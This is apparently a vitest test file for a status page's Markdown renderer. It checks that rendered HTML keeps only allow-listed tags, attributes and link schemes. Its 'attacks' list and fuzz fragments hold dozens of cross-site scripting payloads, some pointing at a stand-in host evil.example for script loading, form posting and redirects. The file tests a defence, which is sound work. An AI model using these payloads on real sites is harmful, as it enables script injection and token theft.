import fc from 'fast-check'
import { Parser } from 'htmlparser2'
import { expect, test } from 'vitest'
import { escapeHtml, renderMarkdown } from '#src/site/markdown.ts'
import { anyText } from '#tests/policy/arbitraries.ts'

const publicUrl = 'https://status.example.com'
const render = (markdown: string) => renderMarkdown(markdown, publicUrl)

const allowedTags = new Set(
  'p br hr blockquote pre code strong em del a ul ol li table thead tbody tr th td'.split(' '),
)
const allowedAttributes: Record<string, RegExp> = {
  'a href': /^(https?:\/\/|mailto:)/,
  'a rel': /^noopener noreferrer$/,
  'ol start': /^\d+$/,
}

/** What HTML holds that no update may bring to the page: tags, attributes and addresses outside the allow-list. */
function strangersIn(html: string): string[] {
  const strangers: string[] = []
  const parser = new Parser({
    onopentag(tag, attributes) {
      if (!allowedTags.has(tag)) strangers.push(`<${tag}>`)
      for (const [name, value] of Object.entries(attributes)) {
        if (!allowedAttributes[`${tag} ${name}`]?.test(value)) strangers.push(`<${tag} ${name}="${value}">`)
      }
    },
    oncomment: (text) => void strangers.push(`<!--${text}-->`),
    onprocessinginstruction: (name) => void strangers.push(`<${name}>`),
  })
  parser.end(html)
  return strangers
}

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '<svg/onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src="javascript:alert(1)">',
  '<style>body{background:url(https://evil.example)}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<a href="https://example.com" onclick="alert(1)">x</a>',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="https://evil.example"><input name="token"></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<textarea><script>alert(1)</script></textarea>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!-- --><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](java\nscript:alert(1))',
  '[a](java\tscript:alert(1))',
  '[a](\u0001javascript:alert(1))',
  '[a](javascript&colon;alert(1))',
  '[a](&#106;avascript:alert(1))',
  '[a](&#x6A&#x61vascript:alert(1))',
  '[a](<javascript:alert(1)>)',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[a](vbscript:msgbox(1))',
  '[a](file:///etc/passwd)',
  '[a](blob:https://example.com/1)',
  '[a](https://example.com "x\\" onmouseover=alert(1) y=\\"")',
  '[a](https://example.com/"onmouseover="alert(1))',
  '[a]: javascript:alert(1)\n\n[a]',
  '<javascript:alert(1)>',
  '<https://example.com/"><script>alert(1)</script>>',
  'https://example.com/<script>alert(1)</script>',
  '![a](https://evil.example/pixel.png)',
  '![a](javascript:alert(1))',
  '![a](x "onerror=alert(1)")',
  '[![a](https://evil.example/pixel.png)](javascript:alert(1))',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '`<script>alert(1)</script>`',
  '```html onload=alert(1)\n<script>alert(1)</script>\n```',
  '| <script>alert(1)</script> |\n| :- |\n| <img src=x onerror=alert(1)> |',
  '- [ ] <input autofocus onfocus=alert(1)>',
  '# <svg onload=alert(1)>\n\n<h1 onclick=alert(1)>x</h1>',
  '**<b onmouseover=alert(1)>**',
  '<a\u0000 href="javascript:alert(1)">x</a>',
  '<p/onclick=alert(1)//>',
]

test.each(attacks)('%j brings nothing to the page but what the allow-list has', (attack) => {
  expect(strangersIn(render(attack))).toEqual([])
  // Once more in a place where the text is no block of its own.
  expect(strangersIn(render(`Requests fail: ${attack} for some.`))).toEqual([])
  expect(strangersIn(render(`> - *a* ${attack}\n\n1. b`))).toEqual([])
})

test('the check of the attacks sees what it looks for', () => {
  const seen = ['<script>', '<p onclick="x">', '<a href="javascript:x">', '<!-- x -->', '<img src="x">']
  for (const html of seen) expect(strangersIn(html)).not.toEqual([])
})

test('no text whatever brings anything but what the allow-list has', () => {
  const pieces = fc.constantFrom(
    ...[
      '<',
      '>',
      '</',
      '/>',
      '"',
      "'",
      '=',
      '&',
      ';',
      '#',
      '`',
      '```',
      '[',
      ']',
      '](',
      ')',
      '!',
      '\n',
      '\n\n',
    ],
    ...[
      ' ',
      '\t',
      '|',
      '-',
      '*',
      '_',
      '~~',
      '\\',
      'a',
      'p',
      'script',
      'img',
      'svg',
      'style',
      'onerror',
      'href',
    ],
    ...[
      'javascript:',
      'data:',
      'https://',
      '&lt;',
      '&#x3c',
      '&colon;',
      '<!--',
      '-->',
      '<![CDATA[',
      ']]>',
      '\0',
    ],
  )
  const text = fc.oneof(
    anyText,
    fc.array(pieces, { maxLength: 40 }).map((parts) => parts.join('')),
    fc.array(fc.constantFrom(...attacks), { maxLength: 3 }).map((parts) => parts.join('')),
  )
  fc.assert(
    fc.property(text, (markdown) => {
      expect(strangersIn(render(markdown))).toEqual([])
    }),
    { numRuns: 1_000 },
  )
})

test('HTML that somebody types is shown as they typed it', () => {
  expect(render('We saw <b>503</b> & more')).toBe('<p>We saw &lt;b&gt;503&lt;/b&gt; &amp; more</p>\n')
})

test('ordinary Markdown reads as it was meant', () => {
  const html = render(
    [
      'A **third** of *requests*, ~~all~~ some, see `x-request-id`.\nSecond line.',
      '- one\n- two',
      '3. three\n4. four',
      '> quoted',
      '```\nGET /\n```',
      '| a | b |\n| - | - |\n| 1 | 2 |',
      '---',
    ].join('\n\n'),
  )
  for (const part of [
    '<strong>third</strong>',
    '<em>requests</em>',
    '<del>all</del>',
    '<code>x-request-id</code>',
    '.<br />Second line.',
    '<ul>\n<li>one</li>',
    '<ol start="3">\n<li>three</li>',
    '<blockquote>\n<p>quoted</p>',
    '<pre><code>GET /',
    '<th>a</th>',
    '<td>2</td>',
    '<hr />',
  ]) {
    expect(html).toContain(part)
  }
})

test('a heading becomes a paragraph, since the headings are those of the template', () => {
  expect(render('# Ingress\n\n### eu-west')).toBe('<p>Ingress</p>\n<p>eu-west</p>\n')
})

test.each([
  ['[history](/history/2026-03)', 'https://status.example.com/history/2026-03'],
  ['[here](incidents/x)', 'https://status.example.com/incidents/x'],
  ['[above](#update-x)', 'https://status.example.com/#update-x'],
  ['[other](//example.com/x)', 'https://example.com/x'],
  ['https://example.com/x?a=1&b=2', 'https://example.com/x?a=1&amp;b=2'],
  ['[mail](mailto:help@example.com)', 'mailto:help@example.com'],
  ['help@example.com', 'mailto:help@example.com'],
])('the link in %j is absolute and leads to %s', (markdown, href) => {
  expect(render(markdown)).toContain(`<a href="${href}" rel="noopener noreferrer">`)
})

test('an address that is none is no link, and its words stay', () => {
  expect(render('[the edge](https://[)')).not.toContain('href')
  expect(render('[the edge](http://exa mple)')).toContain('the edge')
  expect(render('[the edge](javascript:alert)')).toContain('the edge')
})

test.each(['>', '> - ', '+ ', '1. ', '[a](', '![', '*', '<div>'])(
  'a text of %j over and over is shown, however deeply it nests',
  (piece) => {
    const html = render(
      `Requests fail. ${piece.repeat(10_000 / piece.length)} x\n\n${piece.repeat(2_000)} end`,
    )
    expect(html).toContain('Requests fail.')
    expect(html).toContain('end')
    expect(strangersIn(html)).toEqual([])
    const alone = render(`${piece.repeat(10_000 / piece.length)}end`)
    expect(alone).toContain('end')
    expect(strangersIn(alone)).toEqual([])
  },
)

test('escaped text holds no character that HTML gives a meaning to', () => {
  expect(escapeHtml(`<a href="x" title='y'>&`)).not.toMatch(/[<>"']|&(?!#\d+;)/)
  fc.assert(
    fc.property(anyText, (text) => {
      const read: string[] = []
      new Parser({ ontext: (part) => void read.push(part) }, { decodeEntities: true }).end(escapeHtml(text))
      expect(read.join('')).toBe(text)
    }),
  )
})
